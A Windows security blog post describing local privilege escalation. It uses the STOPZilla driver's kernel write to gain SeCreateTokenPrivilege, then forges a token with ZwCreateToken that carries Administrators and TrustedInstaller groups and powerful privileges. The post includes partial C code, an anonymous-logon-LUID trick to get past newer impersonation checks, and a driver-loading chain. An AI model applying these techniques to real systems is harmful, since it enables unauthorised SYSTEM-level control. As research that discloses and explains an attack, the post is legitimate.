Some time ago I was playing with the STOPZilla exploit which is very interesting and educational because it shows how you can abuse from an arbitrary write from the userland into the kernel. In this case the exploit will permit us, by altering the EPROCESS structure of the current process,  to activate an additional privilege, usually  theSeCreateTokenPrivilege.

This one is considered a “God” privilege because it lets you create a Windows access token from scratch for every user with all the group memberships and privileges you need, by using the following NTDLL API Call:

 NTSATUS ZwCreateToken(
  OUT PHANDLE             TokenHandle,
  IN ACCESS_MASK          DesiredAccess,
  IN POBJECT_ATTRIBUTES   ObjectAttributes,
  IN TOKEN_TYPE           TokenType,
  INPLUID                AuthenticationId,
  IN PLARGE_INTEGER       ExpirationTime,
  IN PTOKEN_USER          TokenUser,
  IN PTOKEN_GROUPS        TokenGroups,
  IN PTOKEN_PRIVILEGES    TokenPrivileges,
  IN PTOKEN_OWNER         TokenOwner,
  IN PTOKEN_SOURCE        TokenSource


Normally this privilege is not available, but for testing purpose,  you can add this privilege via the group policy editor console (gpedit.msc)



Back to us, with the SeCreateToken privilege it’s very easy to create a powerful access token! But there is still a problem, in order to impersonate this token  in a thread or new process, we normally need also the SeImpersonate or SeAssignPrimayToken privilege, isn’t it?

Well not exactly, you canimpersonate a thread with the new token, even without impersonate privileges, as long as some conditions are met, mainly:

SeImpersonate privilege is not needed for impersonating a thread as long as the token is for the same user and the integrity level is less or equal to the current process integrity level”

So, if you create the token by putting your user as the “token user”  in the ZwCreateToken API Call and respecting the constraints of the Integrity Levels you should be fine.

Let’s see it in practice (I will show you only the relevant parts):

HANDLE CreateUserToken(HANDLE basetoken, wchar_t *username)
   TOKEN_USER userToken;
   PSID mysid;
   TOKEN_OWNER owner;
   userToken.Attributes =0;
   HRESULT hr = GetSid(username, &mysid);
   userToken.User.Sid= mysid;
   owner.Owner = mysid;Now we have set the “token user” and “token owner” to our username, but as you can imagine, the resulting token would not be useful. So let’s add some extras, for example the membership to “local admin” group and “Trusted Installer” group.

PSID group1,group2;
// TrustedInstaller SID
ConvertStringSidToSidA("S-1-5-80-956008885-3418522649-1831038044-1853292631-2271478464", &group2);
// Local Admin SID
ConvertStringSidToSidA("S-1-5-32-544", &group1);
groups = (PTOKEN_GROUPS)GetInfoFromToken(basetoken, TokenGroups);
pSid = groups->Groups;
for (int i = 0; i < groups->GroupCount; ++i, pSid++)
        PISID piSid = (PISID)pSid->Sid;
        if (piSid->SubAuthority[piSid->SubAuthorityCount - 1] ==
                    DOMAIN_ALIAS_RID_USERS) {
            pSid->Sid = group1;
            pSid->Attributes = SE_GROUP_ENABLED;
        else if (piSid->SubAuthority[piSid->SubAuthorityCount - 1] ==
                        SECURITY_WORLD_RID) {
                pSid->Sid = group2;
                pSid->Attributes = SE_GROUP_ENABLED;
        else {
            pSid->Attributes &= ~SE_GROUP_USE_FOR_DENY_ONLY;
            pSid->Attributes &= ~SE_GROUP_ENABLED;

Here we replaced the groups, obtained from the “basetoken” (the token of our process), with the more powerful ones:• Users -> Administrators
  • Everyone -> Trusted Installer

We could also change the Integrity Level, but given that in our example they will match, I just commented it out.

Last but not least, why not adding to our token  some “God” Privilege?

LUID luid;
privileges = (PTOKEN_PRIVILEGES)LocalAlloc(LMEM_FIXED,
privileges->PrivilegeCount = 4;
LookupPrivilegeValue(NULL, SE_DEBUG_NAME, &luid);
privileges->Privileges[0].Attributes = SE_PRIVILEGE_ENABLED;
privileges->Privileges[0].Luid = luid;
LookupPrivilegeValue(NULL, SE_TCB_NAME, &luid);
privileges->Privileges[1].Attributes = SE_PRIVILEGE_ENABLED;
privileges->Privileges[1].Luid = luid;
LookupPrivilegeValue(NULL, SE_ASSIGNPRIMARYTOKEN_NAME, &luid);
privileges->Privileges[2].Attributes = SE_PRIVILEGE_ENABLED;privileges->Privileges[2].Luid = luid;
LookupPrivilegeValue(NULL, SE_IMPERSONATE_NAME, &luid);
privileges->Privileges[3].Attributes = SE_PRIVILEGE_ENABLED;
privileges->Privileges[3].Luid = luid;

We are ready to create our token;

ntStatus = ZwCreateToken(&elevated_token,

Once we obtain our token, we will impersonate the current thread with this one, and perform some high privilege operations, for example adding our user to the local admin group using the “NetLocalGroupAddMembers()” API or writing a file in a protected location.

With the modified STOPZilla exploit POC, if everything works fine we will get the desired result:


It works!!!

The GetUserName() API Call returns in this case SYSTEM, which is not the real user but the one who is associated to the AuthentictaionId which was set to SYSTEM_LUID (0x3e7), the Logon Session Id of the Local System account.

This test was performed on a Windows 2016 server, unfortunately on a Windows 2019 server or Windows 10 >= 1809 it doesn’t work…Update: After applying latest patches / security updates, KB4507459 for Windows 10 / 2016 – 1607 the behaviour is the same as in Windows 2019 /10 1809


Error 1346: Either a required impersonation level was not provided, or the provided impersonation level is invalid

It seems that in this case our token has been demoted to an “Identification Token” which is reallyuseless for our goal…

Why does this happen? In the latest versions, MS added some supplementary checks when you try to impersonate a new token  and probably this is the reason why it doesn’t work. Our resulting token is considered “privileged” because it has “God” privileges and  powerful group memberships, so the new additional  controls willdowngrade the token due to lack of specific impersonation privileges granted to the calling process.

But never give up! Remember the AuthenticationID ? It was set to 0x3e7, the logon session id of SYSTEM account…

Let’s try to change it and assign it the ANONYMOUS_LOGON_LUID (0x3e6).  Maybe this one is considered harmless  and all the subsequent checks are skipped?


Oh yes!!!

Adding user to admin group still produces an access denied (maybe somecheck on the logon id?) but we can write a file in a protected directory! We can even overwrite system files (we are Trusted Installer) and write/overwrite registry keys… so it’s really easy to escalate privileges, don’t you agree 😉 ?

Final thoughts:

We can also leverage this exploit by combining it with the SeLoadDriverPrivilege.If a user has this privilege (normally members of  the Printer Operator group), he could load the vulnerable signed (and trusted by all AV’s) driver szkg64.sys without installing “STOPZilla” and launch the exploit. Chaining together these 2 privileges will lead to a complete privilege escalation!

Maybe MS should modify the sequence of these checks?  The newly introduced check is  quite late, so if it matches the anonymous AuthenticationID it never hits it. Same behavior has been observed with the Token OriginId and  AuthenticationID, but more on this in a next post

The demo code can be found here



5 thoughts on “Creating Windows Access Tokens

  1. Great article as always, thank you very much !
    However I’ve never seen a simple user with SeLoadDriverPrivilege, by default it’s restricted to Administrators.


      1. Thanks so much for your PDF !
        By the ways, I thought that arbitrary writes from kernel space to user space were blocked by Kernel SMEP (Supervisor Mode Access Prevention) ?


      2. In this case, we are using an arbitrary write not for code execution but for overwriting the _SEP_TOKEN_PRIVILEGE structure, and this would not interfere with SMEP


Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Twitterpicture

You are commentingusing your Twitter account. Log Out /  Change )

Facebook photoYou are commenting using your Facebook account. Log Out /  Change )

Connecting to %s